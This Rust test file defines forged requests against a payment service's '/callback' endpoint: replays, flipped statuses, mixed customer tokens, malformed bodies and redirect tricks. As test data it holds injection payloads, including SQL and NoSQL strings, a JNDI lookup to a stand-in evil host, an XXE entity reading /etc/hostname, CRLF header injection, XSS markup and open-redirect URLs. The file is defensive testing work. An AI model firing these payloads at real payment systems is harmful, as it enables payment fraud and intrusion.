//! Forged browser returns: `/callback`.

use std::collections::BTreeMap;

use payment3_harness::http::FORM;
use reqwest::Method;
use serde_json::{Value, json};

use super::forgery::{Attack, EVIL, Forge, Forgery, JSON, MARKUP, Scene};
use super::victim::Stage;
use super::{Item, Leaves};

const PATH: &str = "/callback";
const UNKNOWN: &str = "404 NOT_FOUND objectId";
const WRONG_ID: &str = "400 INVALID_INPUT objectId";
const NO_ID: &str = "400 MISSING_FIELD objectId";
const UNREADABLE: &str = "400 INVALID_INPUT body";
const NO_ROUTE: &str = "404 NOT_FOUND";
const SUCCESS: &str = "303 to thanks, success";
const FAILURE: &str = "303 to thanks, failure";

pub(super) fn items() -> Vec<Item> {
    [
        early(),
        flipped(),
        others(),
        replays(),
        ids(),
        fields(),
        unreadable(),
        carriers(),
        redirects(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

type Fields = BTreeMap<String, String>;

/// A return of this payment with some fields set.
fn with(scene: &Scene<'_>, set: &[(&str, &str)]) -> Fields {
    let mut fields = scene.victim.return_fields();
    for (name, value) in set {
        fields.insert((*name).to_owned(), (*value).to_owned());
    }
    fields
}

fn returned(
    stage: Stage,
    name: impl Into<String>,
    answer: &'static str,
    leaves: Leaves,
    forge: impl Fn(&Scene<'_>) -> Forgery + Send + Sync + 'static,
) -> Item {
    let name = format!("/callback: {}", name.into());
    Item::new(stage, name, answer, leaves, Attack::once(forge))
}

/// What a return may leave behind while the shopper is on the bank's page: a return that names the charge asks the
/// bank.
fn leaves(answer: &str) -> Leaves {
    if answer.starts_with("303") {
        Leaves::Inquiry
    } else {
        Leaves::Nothing
    }
}

/// A return of a payment that is on the bank's page, with one field set.
fn set(
    name: impl Into<String>,
    answer: &'static str,
    field: &'static str,
    value: impl Into<String>,
) -> Item {
    let value = value.into();
    returned(
        Stage::AtTheBank,
        name,
        answer,
        leaves(answer),
        move |scene| Forgery::form(PATH, &with(scene, &[(field, &value)])),
    )
}

/// Before the bank has decided.
fn early() -> Vec<Item> {
    let asked = |stage, name: &str, answer, forge: fn(&Scene<'_>) -> Forgery| {
        returned(stage, name, answer, Leaves::Inquiry, forge)
    };
    let flood = |name: &str, stage, waves, at_once| {
        let forge: Forge = Box::new(|scene| Forgery::form(PATH, &scene.victim.return_fields()));
        Item::new(
            stage,
            format!("/callback: {name}"),
            SUCCESS,
            Leaves::Inquiry,
            Attack::Flood {
                waves,
                at_once,
                forge,
            },
        )
    };
    vec![
        asked(
            Stage::AtTheBank,
            "early, claims success",
            SUCCESS,
            |scene| Forgery::form(PATH, &scene.victim.return_fields()),
        ),
        asked(
            Stage::AtTheBank,
            "early, claims failure",
            FAILURE,
            |scene| Forgery::form(PATH, &with(scene, &[("status", "false")])),
        ),
        asked(
            Stage::AtTheBank,
            "early, with nothing but the charge's id",
            SUCCESS,
            |scene| {
                let body = format!("objectId={}&status=true", scene.victim.charge);
                Forgery::post(PATH, FORM, body)
            },
        ),
        asked(
            Stage::AtTheBank,
            "early, with another's token",
            SUCCESS,
            |scene| Forgery::form(PATH, &with(scene, &[("token", &scene.other.token)])),
        ),
        asked(
            Stage::AtTheBank,
            "early, with our own words: another's recordKey, outcome, attempt",
            SUCCESS,
            |scene| {
                let fields = [
                    ("recordKey", scene.other.key.as_str()),
                    ("chargeId", &scene.other.charge),
                    ("orderId", &scene.other.order.order_id),
                    ("source", "operator"),
                    ("outcome", "paid"),
                    ("resolution", "orderPaid"),
                    ("transactionState", "Authorized"),
                    ("attempt", "99"),
                    ("lookAgainAt", "99999999999"),
                    ("amount", "1.00"),
                ];
                Forgery::form(PATH, &with(scene, &fields))
            },
        ),
        asked(
            Stage::AtTheBank,
            "early, as JSON called text/xml",
            SUCCESS,
            |scene| {
                Forgery::post(
                    PATH,
                    "text/xml",
                    json!(scene.victim.return_fields()).to_string(),
                )
            },
        ),
        asked(
            Stage::AtTheBank,
            "early, a form called multipart/form-data",
            SUCCESS,
            |scene| {
                Forgery::form(PATH, &scene.victim.return_fields())
                    .header("content-type", "multipart/form-data; boundary=x")
            },
        ),
        asked(
            Stage::AtTheBank,
            "early, a notification of success, cut to its plain fields",
            SUCCESS,
            |scene| {
                let mut notice = scene.victim.notice("Authorized");
                notice.as_object_mut().expect("object").remove("source");
                Forgery::json(PATH, &notice)
            },
        ),
        asked(
            Stage::Verifying,
            "early, of a card verification (ADDCARD)",
            SUCCESS,
            |scene| Forgery::form(PATH, &scene.victim.return_fields()),
        ),
        flood("early, 50 at once", Stage::AtTheBank, 1, 50),
        flood(
            "early, again and again to put the payment off (4 times)",
            Stage::AtTheBank,
            4,
            1,
        ),
        flood(
            "early, 3 waves of 10 to put the payment off",
            Stage::AtTheBank,
            3,
            10,
        ),
        flood(
            "early, a verification again and again (3 times)",
            Stage::Verifying,
            3,
            1,
        ),
    ]
}

/// The status only claims something.
fn flipped() -> Vec<Item> {
    let flip = |stage, name: &str, answer, leaves, status: &'static str| {
        returned(stage, name, answer, leaves, move |scene| {
            Forgery::form(PATH, &with(scene, &[("status", status)]))
        })
    };
    let truth = Leaves::TheBanksWord;
    vec![
        flip(
            Stage::Authorized,
            "status flipped to false of what the bank authorised",
            FAILURE,
            truth,
            "false",
        ),
        flip(
            Stage::Refused,
            "status flipped to true of what the bank declined",
            SUCCESS,
            truth,
            "true",
        ),
        flip(
            Stage::Refused,
            "status flipped to SUCCESS of what the bank declined",
            SUCCESS,
            truth,
            "SUCCESS",
        ),
        flip(
            Stage::Paid,
            "status flipped to false after the order was paid",
            SUCCESS,
            Leaves::Nothing,
            "false",
        ),
        flip(
            Stage::Declined,
            "status flipped to true after the decline",
            SUCCESS,
            Leaves::Nothing,
            "true",
        ),
    ]
}

/// One customer's fields mixed with another's.
fn others() -> Vec<Item> {
    // The victim's token with another charge.
    let naming = |stage, name, answer, charge: for<'a> fn(&Scene<'a>) -> &'a str| {
        returned(stage, name, answer, Leaves::Nothing, move |scene| {
            Forgery::form(PATH, &with(scene, &[("objectId", charge(scene))]))
        })
    };
    vec![
        naming(
            Stage::AtTheBank,
            "another's paid charge with the victim's token",
            "303 to the other's thanks, success",
            |scene| &scene.other.charge,
        ),
        naming(
            Stage::Authorized,
            "another's paid charge with an authorised victim's token",
            "303 to the other's thanks, success",
            |scene| &scene.other.charge,
        ),
        naming(
            Stage::AtTheBank,
            "an unknown charge with the victim's token",
            UNKNOWN,
            |_| "chrg_test_made_up",
        ),
        naming(
            Stage::Declined,
            "an unknown charge with a declined victim's token",
            UNKNOWN,
            |_| "chrg_test_made_up",
        ),
        returned(
            Stage::AtTheBank,
            "objectId and id of two charges",
            WRONG_ID,
            Leaves::Nothing,
            |scene| Forgery::form(PATH, &with(scene, &[("id", &scene.other.charge)])),
        ),
        returned(
            Stage::Authorized,
            "an authorised charge with another's token and order",
            SUCCESS,
            Leaves::TheBanksWord,
            |scene| {
                let fields = [
                    ("token", scene.other.token.as_str()),
                    ("orderId", &scene.other.order.order_id),
                    ("recordKey", &scene.other.key),
                ];
                Forgery::form(PATH, &with(scene, &fields))
            },
        ),
        returned(
            Stage::Paid,
            "a paid charge with another's token",
            SUCCESS,
            Leaves::Nothing,
            |scene| Forgery::form(PATH, &with(scene, &[("token", &scene.other.token)])),
        ),
    ]
}

/// Genuine returns, sent again.
fn replays() -> Vec<Item> {
    let replay = |stage, answer, when: &str| {
        returned(
            stage,
            format!("the genuine one again after {when}"),
            answer,
            Leaves::Nothing,
            |scene| Forgery::form(PATH, &scene.victim.return_fields()),
        )
    };
    let forge: Forge = Box::new(|scene| Forgery::form(PATH, &scene.victim.return_fields()));
    vec![
        replay(Stage::Paid, SUCCESS, "the order was paid"),
        replay(Stage::Declined, FAILURE, "the decline"),
        replay(Stage::Voided, SUCCESS, "the void"),
        replay(Stage::Refunded, SUCCESS, "the refund"),
        replay(Stage::Verified, SUCCESS, "the verification"),
        Item::new(
            Stage::Paid,
            "/callback: the genuine one 20 times at once after the order was paid",
            SUCCESS,
            Leaves::Nothing,
            Attack::Flood {
                waves: 1,
                at_once: 20,
                forge,
            },
        ),
    ]
}

fn ids() -> Vec<Item> {
    let odd = |name: &str, answer, id: String| set(format!("an id {name}"), answer, "objectId", id);
    let derived = |name: &str, answer: &'static str, derive: fn(&str) -> String| {
        returned(
            Stage::AtTheBank,
            format!("the id {name}"),
            answer,
            leaves(answer),
            move |scene| {
                let id = derive(&scene.victim.charge);
                Forgery::form(PATH, &with(scene, &[("objectId", &id)]))
            },
        )
    };
    vec![
        odd(
            "that nobody has",
            UNKNOWN,
            "chrg_test_0000000000000000".into(),
        ),
        odd("of SQL", UNKNOWN, "'OR'1'='1".into()),
        odd(
            "of SQL with blanks",
            WRONG_ID,
            "x'; DROP TABLE records; --".into(),
        ),
        odd("of a NoSQL operator", UNKNOWN, r#"{"$ne":null}"#.into()),
        odd("of a DynamoDB placeholder", UNKNOWN, ":charge".into()),
        odd(
            "of an expression",
            UNKNOWN,
            "attribute_exists(chargeId)".into(),
        ),
        odd(
            "of a JSONata expression",
            UNKNOWN,
            "{%$states.input%}".into(),
        ),
        odd(
            "of a JNDI look-up",
            UNKNOWN,
            format!("${{jndi:ldap://{EVIL}/x}}"),
        ),
        odd("of a template", UNKNOWN, "{{7*7}}".into()),
        odd("of format directives", UNKNOWN, "%s%n%x".into()),
        odd("of a path", UNKNOWN, "../../card/v2/customer".into()),
        odd("of markup", UNKNOWN, MARKUP.into()),
        odd("of a wildcard", UNKNOWN, "chrg_test_*".into()),
        odd("of 100 characters", UNKNOWN, "c".repeat(100)),
        odd("of 101 characters", WRONG_ID, "c".repeat(101)),
        odd("of 7000 characters", WRONG_ID, "c".repeat(7000)),
        odd("of Thai letters", WRONG_ID, "ชำระเงิน".into()),
        odd("of an emoji", WRONG_ID, "💸".into()),
        odd("that is null", UNKNOWN, "null".into()),
        odd("that is ADDCARD", UNKNOWN, "ADDCARD".into()),
        derived("in capitals", UNKNOWN, str::to_uppercase),
        derived("and one character more", UNKNOWN, |id| format!("{id}0")),
        derived("but for its last character", UNKNOWN, |id| {
            id[..id.len() - 1].into()
        }),
        derived("and the mark of a second attempt", UNKNOWN, |id| {
            format!("{id}-1")
        }),
        derived("twice, with a comma", UNKNOWN, |id| format!("{id},{id}")),
        derived("encoded twice", UNKNOWN, |id| id.replacen('c', "%63", 1)),
        derived("with a blank behind it", SUCCESS, |id| format!("{id} ")),
        derived("with a NUL behind it", WRONG_ID, |id| format!("{id}\0")),
        derived("with a line break behind it", SUCCESS, |id| {
            format!("{id}\n")
        }),
        derived("with a header behind it", WRONG_ID, |id| {
            format!("{id}\r\nX-Evil: 1")
        }),
        derived("in other letters that look the same", WRONG_ID, |id| {
            id.replacen('c', "с", 1)
        }),
        derived("with a character of no width", WRONG_ID, |id| {
            format!("{id}\u{200b}")
        }),
    ]
}

/// Hints that returns carry. None stops a return, and none is believed.
fn fields() -> Vec<Item> {
    vec![
        set("a status of 1", FAILURE, "status", "1"),
        set("a status of paid", FAILURE, "status", "paid"),
        set("a status of fail", FAILURE, "status", "fail"),
        set(
            "a status and a header",
            FAILURE,
            "status",
            "true\r\nX-Evil: 1",
        ),
        set(
            "a status and a parameter",
            FAILURE,
            "status",
            "true&amount=0",
        ),
        set("a status and a NUL", FAILURE, "status", "true\0"),
        set("no status", FAILURE, "status", ""),
        set("a token and a header", SUCCESS, "token", "t\r\nX-Evil: 1"),
        set(
            "a token of 101 characters",
            SUCCESS,
            "token",
            "t".repeat(101),
        ),
        set("no id", NO_ID, "objectId", ""),
        set(
            "a message over 8 KB",
            UNREADABLE,
            "message",
            "m".repeat(9 * 1024),
        ),
    ]
}

fn unreadable() -> Vec<Item> {
    let body = |name: &str,
                answer: &'static str,
                content_type: &'static str,
                body: fn(&Scene<'_>) -> Vec<u8>| {
        returned(
            Stage::AtTheBank,
            name,
            answer,
            leaves(answer),
            move |scene| Forgery::post(PATH, content_type, body(scene)),
        )
    };
    let json_text =
        |scene: &Scene<'_>, text: &str| text.replace("CHARGE", &scene.victim.charge).into_bytes();
    let json_body = |name: &str, answer: &'static str, text: &'static str| {
        returned(
            Stage::AtTheBank,
            name,
            answer,
            leaves(answer),
            move |scene| Forgery::post(PATH, JSON, json_text(scene, text)),
        )
    };
    vec![
        body("no body", UNREADABLE, FORM, |_| Vec::new()),
        body("NUL bytes", UNREADABLE, FORM, |_| vec![0; 64]),
        body("a NUL byte in front of a form", NO_ID, FORM, |scene| {
            format!("\0objectId={}&status=true", scene.victim.charge).into_bytes()
        }),
        body("bytes that are no UTF-8", SUCCESS, FORM, |scene| {
            let form = format!("objectId={}&status=true&message=", scene.victim.charge);
            [form.into_bytes(), vec![0xff]].concat()
        }),
        body("an id encoded as no UTF-8", WRONG_ID, FORM, |_| {
            b"objectId=%ff%fe&status=true".to_vec()
        }),
        body("objectId twice", WRONG_ID, FORM, |scene| {
            format!("objectId=x&objectId={}&status=true", scene.victim.charge).into_bytes()
        }),
        body(
            "objectId twice, once spelt by escapes",
            WRONG_ID,
            FORM,
            |scene| {
                format!("objectId=x&object%49d={}&status=true", scene.victim.charge).into_bytes()
            },
        ),
        body("status twice", SUCCESS, FORM, |scene| {
            format!("objectId={}&status=false&status=true", scene.victim.charge).into_bytes()
        }),
        body(
            "a NoSQL operator as the field's name",
            NO_ID,
            FORM,
            |scene| {
                format!("objectId[$ne]=x&id[]={}&status=true", scene.victim.charge).into_bytes()
            },
        ),
        body("XML", UNREADABLE, "text/xml", |scene| {
            let charge = &scene.victim.charge;
            format!("<r><objectId>{charge}</objectId><status>true</status></r>").into_bytes()
        }),
        body("XML with an entity", NO_ID, "text/xml", |_| {
            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r a=\"&x;\"/>".to_vec()
        }),
        body(
            "multipart",
            NO_ID,
            "multipart/form-data; boundary=x",
            |scene| {
                let part = |name: &str, value: &str| {
                    format!(
                        "--x\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
                    )
                };
                format!(
                    "{}{}--x--\r\n",
                    part("objectId", &scene.victim.charge),
                    part("status", "true")
                )
                .into_bytes()
            },
        ),
        body("over 6 MB", UNREADABLE, FORM, |scene| {
            let form = format!("objectId={}&status=true&message=", scene.victim.charge);
            [form.into_bytes(), vec![b'm'; 7 << 20]].concat()
        }),
        body("lists in lists, 4000 deep", UNREADABLE, JSON, |_| {
            [vec![b'['; 4000], vec![b']'; 4000]].concat()
        }),
        body("objects 1000 deep in a field", SUCCESS, JSON, |scene| {
            let deep = format!("{}1{}", "{\"a\":".repeat(1000), "}".repeat(1000));
            let charge = &scene.victim.charge;
            format!(r#"{{"objectId":"{charge}","status":"true","message":{deep}}}"#).into_bytes()
        }),
        json_body("null", UNREADABLE, "null"),
        json_body("a list", UNREADABLE, r#"["CHARGE","true"]"#),
        json_body(
            "a list of returns",
            UNREADABLE,
            r#"[{"objectId":"CHARGE","status":"true"}]"#,
        ),
        json_body(
            "JSON that is cut off",
            UNREADABLE,
            r#"{"objectId":"CHARGE","status":"tr"#,
        ),
        json_body(
            "JSON and more",
            UNREADABLE,
            r#"{"objectId":"CHARGE","status":"true"}{}"#,
        ),
        json_body(
            "an id that is null",
            NO_ID,
            r#"{"objectId":null,"status":"true"}"#,
        ),
        json_body(
            "an id that is a list",
            WRONG_ID,
            r#"{"objectId":["CHARGE"],"status":"true"}"#,
        ),
        json_body(
            "an id that is an operator",
            WRONG_ID,
            r#"{"objectId":{"$gt":""},"status":"true"}"#,
        ),
        json_body(
            "an id with an escaped NUL",
            WRONG_ID,
            r#"{"objectId":"CHARGE\u0000","status":"true"}"#,
        ),
        json_body(
            "an id with half a surrogate",
            WRONG_ID,
            r#"{"objectId":"CHARGE\ud800","status":"true"}"#,
        ),
        json_body(
            "objectId twice in JSON",
            WRONG_ID,
            r#"{"objectId":"x","objectId":"CHARGE","status":"true"}"#,
        ),
        json_body(
            "status twice in JSON, once spelt by escapes",
            SUCCESS,
            r#"{"objectId":"CHARGE","status":"false","stat\u0075s":"true"}"#,
        ),
        json_body(
            "a status that is an object",
            FAILURE,
            r#"{"objectId":"CHARGE","status":{"toString":"true"}}"#,
        ),
        json_body(
            "a status that is 1",
            FAILURE,
            r#"{"objectId":"CHARGE","status":1}"#,
        ),
        returned(
            Stage::AtTheBank,
            "the bank's own notification, complete and signed",
            SUCCESS,
            Leaves::Inquiry,
            |scene| Forgery::json(PATH, &scene.victim.notice("Pre-Authorized")),
        ),
        returned(
            Stage::AtTheBank,
            "a field name of markup, twice, for a browser",
            "400 page",
            Leaves::Nothing,
            |_| {
                let name = "%3Cscript%3Ealert(1)%3C/script%3E";
                Forgery::post(PATH, FORM, format!("{name}=1&{name}=2"))
                    .header("accept", "text/html")
            },
        ),
        returned(
            Stage::AtTheBank,
            "a field name with a header in it, twice",
            NO_ID,
            Leaves::Nothing,
            |_| {
                let name = "x%0d%0aX-Evil:1";
                Forgery::post(PATH, FORM, format!("{name}=1&{name}=2"))
            },
        ),
    ]
}

/// The same fields, sent in other ways.
fn carriers() -> Vec<Item> {
    let method = |method: Method| {
        let answer = if method == Method::GET {
            SUCCESS
        } else {
            NO_ROUTE
        };
        returned(
            Stage::AtTheBank,
            format!("by {method}"),
            answer,
            leaves(answer),
            move |scene| {
                let query = format!("{PATH}?objectId={}&status=true", scene.victim.charge);
                Forgery::new(method.clone(), query)
                    .header("content-type", JSON)
                    .header("x-http-method-override", "POST")
                    .body(json!(scene.victim.return_fields()).to_string())
            },
        )
    };
    let path = |path: &'static str| {
        returned(
            Stage::AtTheBank,
            format!("at {path}"),
            NO_ROUTE,
            Leaves::Nothing,
            move |scene| Forgery::form(path, &scene.victim.return_fields()),
        )
    };
    let mut items: Vec<_> = [Method::GET, Method::PUT, Method::PATCH, Method::DELETE]
        .map(method)
        .into();
    items.extend(
        [
            "/callback/notify",
            "/callback%2fnotify",
            "/CALLBACK",
            "/callback%00",
            "/callback;/notify",
            "/notify%2f..%2fcallback",
            "/cardpayment%2f..%2fcallback",
            "/notify/callback/",
        ]
        .map(path),
    );
    items.extend(["/callback/", "/callback//"].map(|path| {
        returned(
            Stage::AtTheBank,
            format!("at {path}"),
            SUCCESS,
            Leaves::Inquiry,
            move |scene| Forgery::form(path, &scene.victim.return_fields()),
        )
    }));
    items.push(returned(
        Stage::AtTheBank,
        "one charge in the query, another in the body",
        WRONG_ID,
        Leaves::Nothing,
        |scene| {
            let query = format!("{PATH}?objectId={}", scene.other.charge);
            Forgery::form(&query, &scene.victim.return_fields())
        },
    ));
    items.push(returned(
        Stage::AtTheBank,
        "by a browser that looks ahead",
        "425 TOO_EARLY",
        Leaves::Nothing,
        |scene| {
            let query = format!("{PATH}?objectId={}&status=true", scene.victim.charge);
            Forgery::new(Method::GET, query).header("sec-purpose", "prefetch;prerender")
        },
    ));
    items.push(returned(
        Stage::AtTheBank,
        "everything in the query, nothing in the body",
        SUCCESS,
        Leaves::Inquiry,
        |scene| {
            let query = format!("{PATH}?objectId={}&status=true", scene.victim.charge);
            Forgery::new(Method::POST, query)
        },
    ));
    items
}

/// The browser goes where the payment's own record says.
fn redirects() -> Vec<Item> {
    let paid = |name: &str, forge: fn(&Scene<'_>) -> Forgery| {
        returned(Stage::Paid, name, SUCCESS, Leaves::Nothing, forge)
    };
    vec![
        paid(
            "callback, redirect and return addresses in the form",
            |scene| {
                let evil = format!("https://{EVIL}");
                let names = [
                    "callback",
                    "redirect",
                    "redirectUrl",
                    "redirect_url",
                    "returnUrl",
                    "url",
                ];
                Forgery::form(PATH, &with(scene, &names.map(|name| (name, evil.as_str()))))
            },
        ),
        paid("a location and a header in every field", |scene| {
            let evil = format!("x\r\nLocation: https://{EVIL}\r\nX-Evil: 1");
            let names = ["message", "saveCard", "orderId", "amount"];
            Forgery::form(PATH, &with(scene, &names.map(|name| (name, evil.as_str()))))
        }),
        paid("markup in every field that is not read", |scene| {
            let names = ["message", "saveCard", "orderId", "amount"];
            Forgery::form(PATH, &with(scene, &names.map(|name| (name, MARKUP))))
        }),
        paid(
            "another host, origin and referrer in the headers",
            |scene| {
                Forgery::form(PATH, &scene.victim.return_fields())
                    .header("x-forwarded-host", EVIL)
                    .header("x-original-url", "/notify")
                    .header("x-rewrite-url", "/notify")
                    .header("forwarded", &format!("host={EVIL}"))
                    .header("origin", &format!("https://{EVIL}"))
                    .header("referer", &format!("https://{EVIL}/"))
            },
        ),
        paid("a redirect in the query", |scene| {
            let path = format!("{PATH}?callback=https://{EVIL}&redirect=//{EVIL}");
            Forgery::form(&path, &scene.victim.return_fields())
        }),
        returned(
            Stage::Authorized,
            "another base for a payment that is then paid",
            SUCCESS,
            Leaves::TheBanksWord,
            |scene| {
                let evil = format!("https://{EVIL}");
                let fields = [
                    ("callback", evil.as_str()),
                    ("orderId", "1"),
                    ("amount", "0.01"),
                ];
                Forgery::json(PATH, &Value::from_iter(with(scene, &fields)))
            },
        ),
    ]
}
